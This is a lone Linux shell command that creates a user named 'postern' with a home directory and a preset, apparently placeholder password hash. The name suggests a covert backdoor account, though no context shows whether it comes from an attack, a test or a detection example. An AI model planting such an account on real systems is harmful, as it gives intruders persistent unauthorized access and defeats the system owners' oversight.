useradd -m -p '$6$x$y' postern
